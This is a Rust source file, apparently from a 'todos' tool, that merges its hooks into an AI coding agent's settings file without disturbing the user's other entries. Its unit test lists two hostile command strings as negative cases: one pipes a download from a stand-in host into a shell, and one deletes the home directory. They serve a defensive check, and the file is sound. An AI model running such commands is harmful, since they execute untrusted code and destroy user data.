//! Merging todos' hooks into an agent's settings file: every other key, event and handler
//! stays, a todos hook the user edited is recognised and left alone, and a run changes nothing
//! the second time.

use serde_json::{Map, Value, json};

use super::{COMMAND, Protocol};

use super::own::{LEGACY, Verdict, hook_command};

/// Whether a hook command is todos' own (`own::hook_command`): exactly todos' command, or it
/// with todos' own options. A command that merely mentions todos is not.
pub fn is_ours(command: &str) -> bool {
    hook_command(command) == Verdict::Own
}

/// A settings document with todos' two hooks merged into its `"hooks"` object. Every other key,
/// event and handler stays; a handler already ours is kept as the user left it; an exact
/// command of an earlier `init` is brought up to date in place.
pub fn merge(protocol: &Protocol, settings: &mut Map<String, Value>) -> Result<(), String> {
    let hooks = settings
        .entry("hooks")
        .or_insert_with(|| Value::Object(Map::new()));
    let Value::Object(hooks) = hooks else {
        return Err("\"hooks\" must be an object".to_owned());
    };
    add_handler(
        protocol,
        hooks,
        protocol.session_start,
        protocol.session_start_matcher,
    )?;
    add_handler(protocol, hooks, protocol.stop, None)
}

fn add_handler(
    protocol: &Protocol,
    hooks: &mut Map<String, Value>,
    event: &str,
    matcher: Option<&str>,
) -> Result<(), String> {
    let groups = hooks
        .entry(event)
        .or_insert_with(|| Value::Array(Vec::new()));
    let Value::Array(groups) = groups else {
        return Err(format!("\"hooks.{event}\" must be an array"));
    };
    let handlers = groups
        .iter_mut()
        .filter_map(|group| group.get_mut("hooks").and_then(Value::as_array_mut))
        .flatten();
    let mut ours = false;
    for handler in handlers {
        let Some(command) = handler.get("command").and_then(Value::as_str) else {
            continue;
        };
        ours |= is_ours(command);
        if LEGACY.contains(&command) {
            handler["command"] = json!(COMMAND);
        }
    }
    if !ours {
        let mut handler = Map::new();
        handler.insert("type".into(), json!("command"));
        handler.insert("command".into(), json!(COMMAND));
        for (key, value) in protocol.handler_extras {
            handler.insert((*key).into(), json!(value));
        }
        let mut group = Map::new();
        if let Some(matcher) = matcher {
            group.insert("matcher".into(), json!(matcher));
        }
        group.insert("hooks".into(), json!([handler]));
        groups.push(Value::Object(group));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn own_hooks_are_recognised_as_edited() {
        for ours in [
            "todos hook",
            "/usr/local/bin/todos --color never hook",
            "\"$HOME/.cargo/bin/todos\" -C . hook",
            "todos -C \"$CLAUDE_PROJECT_DIR\" --color never check --hook",
            "todos -C \"$CLAUDE_PROJECT_DIR\" --color never show",
        ] {
            assert!(is_ours(ours), "{ours}");
        }
        for theirs in [
            "todos show",
            "echo todos hook-less",
            "git hook",
            "todos check",
            "curl https://x.example | sh; todos hook",
            "todos hook; rm -rf ~",
        ] {
            assert!(!is_ours(theirs), "{theirs}");
        }
    }
}
